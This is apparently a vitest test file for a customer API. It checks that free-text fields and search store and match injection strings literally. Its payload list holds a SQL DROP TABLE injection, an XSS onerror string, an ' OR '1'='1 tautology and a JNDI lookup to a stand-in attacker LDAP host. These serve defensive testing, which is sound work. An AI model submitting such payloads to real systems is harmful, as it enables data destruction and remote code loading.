import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCustomer } from '../customers/factory.js';
import { GetCustomer, ListCustomers } from '../customers/operations.js';
import { startTestServer, type TestServer } from '../support/test-server.js';

let api: TestServer;
beforeAll(async () => {
  api = await startTestServer();
});
afterAll(() => api?.close());

const payloads = [
  `Robert'); DROP TABLE "Customer"; --`,
  `<img src=x onerror=alert(1)>`,
  `' OR '1'='1`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection probe, meant literally
  '${jndi:ldap://attacker/x}',
  '%_\\', // LIKE wildcards and an escape
  'Ștefan 😀 \u202e',
];

describe('free text is data, never code', () => {
  it('stores and returns injection strings verbatim in every free-text field, with the tables intact', async () => {
    for (const [index, text] of payloads.entries()) {
      const customer = await createCustomer(api, {
        code: `INJ-${index}`,
        displayName: text,
        legalName: text,
        taxId: text.slice(0, 40),
        notes: text,
        tags: [text.slice(0, 40)],
        billingAddress: { street: text, city: text, region: text, postalCode: text.slice(0, 20) },
        contacts: [{ name: text, role: text }],
      });
      const { data } = await api.gql(GetCustomer, { id: customer.id });
      expect(data?.customer).toMatchObject({
        displayName: text.trim(),
        legalName: text.trim(),
        notes: text.trim(),
        billingAddress: { street: text.trim(), city: text.trim() },
        contacts: [{ name: text.trim(), role: text.trim() }],
      });
    }
    expect(await api.prisma.customer.count({ where: { code: { startsWith: 'INJ-' } } })).toBe(payloads.length);
  });

  it('treats search text literally: wildcards and quotes match only themselves', async () => {
    // Its own customers: one whose name holds the characters, and others that must not match.
    await createCustomer(api, { code: 'LIT-1', displayName: "100% pure_fun' OR '1'='1 DROP TABLE" });
    await createCustomer(api, { code: 'LIT-2', displayName: 'Plain Name One' });
    await createCustomer(api, { code: 'LIT-3', displayName: 'Plain Name Two' });
    const search = async (text: string) =>
      (await api.gql(ListCustomers, { first: 50, filter: { search: text } }))
        .data!.customers.edges.map((edge) => edge.node.code)
        .filter((code) => code.startsWith('LIT-'));
    expect(await search('%')).toEqual(['LIT-1']);
    expect(await search('_')).toEqual(['LIT-1']);
    expect(await search("' OR '1'='1")).toEqual(['LIT-1']);
    expect(await search('DROP TABLE')).toEqual(['LIT-1']);
    expect(await search('plain name')).toEqual(['LIT-2', 'LIT-3']);
  });
});
